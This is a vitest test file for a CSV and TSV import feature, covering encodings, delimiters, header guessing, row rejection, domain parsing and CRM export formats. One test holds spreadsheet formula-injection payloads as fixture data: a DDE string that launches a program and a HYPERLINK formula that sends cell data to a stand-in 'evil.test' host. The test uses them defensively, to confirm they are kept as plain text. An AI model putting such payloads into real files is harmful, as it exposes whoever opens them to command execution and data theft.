import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { openFile } from "./reading/open-file";
import { readRows } from "./reading/read-rows";
import { makeChunks } from "./rows/chunks";
import { matchColumns } from "./rows/headers";
import { detectKind } from "./rows/kind";

/** What a file of `tests/fixtures/csv` becomes when every guess of the import is accepted. */
async function importFile(name: string) {
  const bytes = readFileSync(new URL(`../../../tests/fixtures/csv/${name}`, import.meta.url));
  const file = new File([bytes], name);
  const { format, headerRows, headers, sample } = await openFile(file);
  const kind = detectKind(headers, sample);
  const columns = matchColumns(kind, headers, sample).map(({ header, target }) => ({
    header,
    target,
  }));
  const mapping = { version: 1 as const, ...format, header_rows: headerRows, columns };
  const all = {
    kind,
    headers,
    rows: [] as Record<string, unknown>[],
    rejected: [] as [number, string][],
    notes: [] as string[],
  };
  for await (const chunk of makeChunks(kind, mapping, readRows(file, mapping))) {
    all.rows.push(...chunk.rows);
    all.rejected.push(...chunk.rejected.map(({ row, reason }): [number, string] => [row, reason]));
    all.notes.push(...chunk.notes.map(({ row, note }) => `${row}: ${note}`));
  }
  return all;
}
const names = ({ rows }: { rows: Record<string, unknown>[] }) => rows.map(({ name }) => name);

describe("importing a file of the collection", () => {
  it.each([
    ["not-a-csv.csv", /is an image/],
    ["empty.csv", /is empty/],
    ["blank-lines.csv", /only blank lines/],
    ["header-only.csv", /no rows below/],
  ])("refuses %s", async (name, message) => {
    await expect(importFile(name)).rejects.toThrow(message);
  });

  it.each(["utf-16le-bom.csv", "utf-16be-bom.csv", "utf-8-bom.csv"])(
    "reads %s whatever its encoding",
    async (name) => {
      const all = await importFile(name);
      expect(names(all)).toEqual(["Müller & Söhne", "株式会社ひばり精機", "Café Zürich"]);
      expect(all.headers[0]).toBe("Company");
    },
  );

  it("reads latin-1 with German headers", async () => {
    const all = await importFile("latin-1.csv");
    expect(names(all)).toEqual(["Müller & Söhne", "Löffler Holzbau", "Bäckerei Weiß"]);
    expect(all.rows.map(({ custom }) => custom)).toEqual([
      { Ort: "Göppingen" },
      { Ort: "Sonthofen" },
      { Ort: "Füssen" },
    ]);
  });

  it("reads semicolons and tabs", async () => {
    expect(names(await importFile("semicolons.csv"))).toContain("Fenwick; Rowe");
    expect((await importFile("tabs.tsv")).rows.map(({ custom }) => custom)).toEqual([
      { City: "Portland, OR" },
      { City: "Edinburgh; Scotland" },
    ]);
  });

  it("keeps line breaks and quotes inside cells", async () => {
    const all = await importFile("quoted-newlines.csv");
    expect(names(all)[1]).toBe('The "Old" Quay');
    expect(all.rows.some(({ address }) => /\n/.test(String(address)))).toBe(true);
  });

  it("finds names and websites without a header", async () => {
    const all = await importFile("no-header.csv");
    expect(all.rows).toMatchObject([
      { row: 1, name: "Kestrel Robotics", domain: "kestrel-robotics.example" },
      { row: 2, name: "Oakline Furniture" },
      { row: 3, name: "Elmgrove Dental" },
    ]);
  });

  it("rejects each row without a name or a usable website, with its reason", async () => {
    const all = await importFile("no-valid-rows.csv");
    expect(all.rows).toEqual([]);
    expect(all.rejected.map(([, reason]) => reason)).toEqual([
      expect.stringContaining("“not a domain” is not a web address"),
      expect.stringContaining("“http://” is not a web address"),
    ]);
  });

  it("loses one row to an unclosed quote", async () => {
    const all = await importFile("unclosed-quote.csv");
    expect(names(all)).toEqual(["Kestrel Robotics", "Elmgrove Dental"]);
    expect(all.rejected).toEqual([[2, expect.stringContaining("never closed")]]);
  });

  it("matches the first of two columns with one name and keeps the second", async () => {
    const { rows } = await importFile("column-twice.csv");
    expect(rows[0]).toMatchObject({
      phone: "+15035550142",
      website: "kestrel-robotics.example",
      custom: { "Phone (2)": "+15035550143", website: "https://kestrel-robotics.example/en" },
    });
  });

  it("does not shift cells of rows that are too long or too short", async () => {
    const all = await importFile("uneven-rows.csv");
    expect(all.rows).toMatchObject([
      { name: "Kestrel Robotics" },
      {
        name: "Oakline Furniture",
        custom: { City: "High Point", "Extra cell 1": "extra", "Extra cell 2": "cells" },
      },
      { name: "Elmgrove Dental", custom: { City: "Brighton" } },
    ]);
    expect(all.rows[0]).not.toHaveProperty("custom");
    expect(all.notes).toEqual([expect.stringMatching(/^2: The row has 5 cells/)]);
  });

  it("keeps formula-looking cells as they are", async () => {
    const { rows } = await importFile("formula-cells.csv");
    expect(rows.map(({ custom }) => custom)).toEqual(
      ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "\t=TAB()", "=", "a=b"].map((Note) => ({ Note })),
    );
    expect(rows[0]?.name).toBe('=HYPERLINK("http://evil.test/?x="&A1,"Click")');
  });

  it("finds the domain in whatever form it was written, and keeps what is none", async () => {
    const all = await importFile("domain-forms.csv");
    expect(all.rows.map(({ domain }) => domain)).toEqual([
      ...["url.example", "path.example", "upper.example", "email.example", "mailto.example", "port.example"],
      ...["userinfo.example", "xn--bcher-kva.example", "xn--bcher-kva.test", "dot.example", "spaces.example"],
      ...["slash.example", undefined, undefined, undefined, undefined, undefined],
    ]);
    expect(all.rejected).toEqual([]);
    expect(all.notes.map((note) => Number.parseInt(note, 10))).toEqual([13, 14, 15, 16]);
    expect(JSON.stringify(all.rows)).not.toContain("secret");
  });

  it("knows contacts of an Apollo export", async () => {
    const all = await importFile("contacts-apollo.csv");
    expect(all.kind).toBe("contacts");
    expect(all.rows).toHaveLength(4);
    expect(all.rejected).toEqual([[4, "No name, e-mail address or LinkedIn profile."]]);
  });

  it("knows contacts of a Clay table", async () => {
    const all = await importFile("contacts-clay.csv");
    expect(all.rows).toMatchObject([
      {
        name: "Maya Lindgren",
        company: { website: "northwind-robotics.example" },
        email: "maya@northwind-robotics.example",
      },
      { name: "Dr. Anders Vestergaard", linkedin_url: "https://dk.linkedin.com/in/anders-v" },
      { name: "Jess Finch" },
    ]);
    expect(all.rows[1]).not.toHaveProperty("email");
  });

  it("knows companies of a HubSpot export", async () => {
    const all = await importFile("companies-hubspot.csv");
    expect(all.kind).toBe("companies");
    expect(all.rows.map(({ domain }) => domain === undefined)).toEqual([false, false, true]);
  });
});
